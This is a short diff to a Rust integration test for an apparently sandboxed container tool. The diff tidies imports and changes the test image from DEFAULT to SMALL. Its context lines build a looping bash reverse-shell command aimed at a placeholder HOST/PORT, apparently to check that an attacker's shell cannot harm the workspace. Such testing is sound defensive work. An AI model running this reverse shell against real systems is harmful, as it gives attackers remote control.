@@ -8,9 +8,7 @@ use std::sync::Arc;
 
 use coi_tests::audit::of_kind;
 use coi_tests::incus::{self, Foreign, incus};
-use coi_tests::{
-    Attacker, Coi, DEFAULT, Daemon, Ended, Gate, SMALL, TINY, USER, alerts, end, eventually, text,
-};
+use coi_tests::{Attacker, Coi, Daemon, Ended, Gate, SMALL, TINY, USER, alerts, end, eventually, text};
 use nix::unistd::geteuid;
 use serde_json::{Value, json};
 
@@ -57,7 +55,7 @@ fn nothing_in_it_is_stopped_and_its_workspace_is_protected() {
     let gate = Gate::new(&coi, "gate");
     let attacker = Attacker::on_bridge();
     let attack = attacker.fill("until bash -i >& /dev/tcp/HOST/PORT 0>&1; do sleep 0.1; done & read x <gate");
-    let run = coi.start(&["run", "--no-monitor", "--image", DEFAULT, "--", "bash", "-c", &attack]);
+    let run = coi.start(&["run", "--no-monitor", "--image", SMALL, "--", "bash", "-c", &attack]);
     let gate = gate.reached();
     attacker.await_shell();
 
